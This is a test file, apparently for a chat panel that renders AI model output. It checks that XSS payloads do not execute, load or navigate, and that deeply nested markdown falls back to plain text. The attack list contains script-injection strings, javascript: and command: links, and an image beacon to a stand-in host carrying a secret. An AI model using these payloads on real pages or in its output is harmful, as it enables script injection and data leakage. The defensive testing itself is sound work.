import assert from 'node:assert/strict';
import type { ChatEntry } from '../../src/protocol/chatState';
import { chat, text, tool, user } from './support/chats';
import { hrefs } from './support/domProbes';
import { panelSuite } from './support/panelSuite';

const ATTACKS = [
  '<img src=x onerror="window.hacked = 1">',
  '<script>window.hacked = 1</script>',
  '<svg/onload=window.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'inline <b onmouseover="window.hacked=1">bold</b> html',
  '[click](javascript:window.hacked=1)',
  '[click](<java\tscript:window.hacked=1>)',
  '[click](command:workbench.action.quit)',
  '[click](data:text/html,<script>1</script>)',
  '![remote](https://evil.test/pixel.png?secret)',
  '![x](javascript:window.hacked=1)',
  '<a href="javascript:window.hacked=1">click</a>',
  '```html\n<script>window.hacked=1</script>\n```',
  '"><img src=x onerror=window.hacked=1>',
  '[a"onmouseover="window.hacked=1](https://example.com/"onmouseover="window.hacked=1)',
  '| <img src=x onerror=window.hacked=1> |\n| --- |\n| <script>window.hacked=1</script> |',
  '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0">cover</div>',
];

/** Resolves once an image could not be loaded. A string, because it runs in the page. */
const BROKEN_IMAGE = `new Promise((failed) => {
  Object.assign(new Image(), { onerror: () => failed(), src: 'data:image/png;base64,AAAA' });
})`;

describe('Model output', () => {
  const open = panelSuite();

  it('runs nothing, loads nothing and navigates nowhere', async () => {
    const attacks = ATTACKS.join('\n\n');
    const entries = [
      user('u', attacks),
      text('t', attacks),
      tool('x', { status: 'error', title: attacks.slice(0, 200), output: attacks }),
    ];
    const { page } = await open({ state: chat({ entries, title: '<img src=x onerror=window.hacked=1>' }) });
    await page.locator('article[data-kind=text]').waitFor();
    // What an image would do when it fails to load, it would have done by the time that another one has failed.
    await page.evaluate(BROKEN_IMAGE);
    const bad = 'article :is(img, script, style, iframe, svg, [style], [onerror], [onmouseover], [onload], [srcdoc])';
    assert.equal(await page.locator(bad).count(), 0);
    const links = await page.locator('main a').evaluateAll(hrefs);
    assert.ok(links.length > 0);
    for (const href of links) assert.match(String(href), /^(https:\/\/|#$)/);
    assert.equal(await page.evaluate('window.hacked'), undefined);
  });

  it('shows raw HTML as text and an image as a link', async () => {
    const source = 'Use <b>bold</b>.\n\n<div>block</div>\n\n![a plot](https://example.com/plot.png)';
    const { page } = await open({ state: chat({ entries: [text('t', source)] }) });
    await page.getByText('Use <b>bold</b>.').waitFor();
    await page.getByText('<div>block</div>').waitFor();
    assert.equal(await page.getByRole('link', { name: 'a plot' }).getAttribute('href'), 'https://example.com/plot.png');
  });
});

describe('An entry that cannot be rendered', () => {
  const open = panelSuite();
  const deep: Record<string, string> = {
    'nested quotes': `${'>'.repeat(2_000)} the bottom`,
    'nested quotes with spaces': `${'> '.repeat(2_000)}the bottom`,
    'nested lists on one line': `${'- '.repeat(1_500)}the bottom`,
    'nested lists': `${Array.from({ length: 1_500 }, (_, at) => `${'  '.repeat(at)}- item`).join('\n')}\nthe bottom`,
    'nested quotes and numbered lists': `${'> 1. '.repeat(1_000)}the bottom`,
    'nested brackets': `${'!['.repeat(4_000)}the bottom${'](x)'.repeat(4_000)}`,
  };

  for (const [name, markdown] of Object.entries(deep)) {
    it(`is shown as plain text, and what follows is rendered: ${name}`, async () => {
      const entries = [text('a', markdown), text('b', 'What **follows**.'), user('u', 'And on')];
      const { page, host } = await open({ state: chat({ entries }) });
      await page.locator('article[data-entry-id=b] strong').getByText('follows').waitFor();
      await page.locator('article[data-entry-id=a]').getByText('the bottom').waitFor();
      host.emit({ type: 'entry-added', entry: text('c', '', true) });
      host.emit({ type: 'text-appended', entryId: 'c', text: markdown });
      host.emit({ type: 'text-finished', entryId: 'c', durationMs: 1 });
      await page.locator('article[data-entry-id=c]').getByText('the bottom').waitFor();
    });
  }

  it('names its content, and what follows is rendered', async () => {
    const detail: unknown = JSON.parse('{"kind":"change"}');
    const broken: ChatEntry = Object.assign(tool('a', { title: 'Odd one', status: 'error' }), { detail });
    const entries = [broken, text('b', 'What follows.')];
    const { page } = await open({ state: chat({ entries }) });
    await page.getByText('What follows.').waitFor();
    await page.locator('article[data-entry-id=a]').getByText('Odd one').waitFor();
  });
});
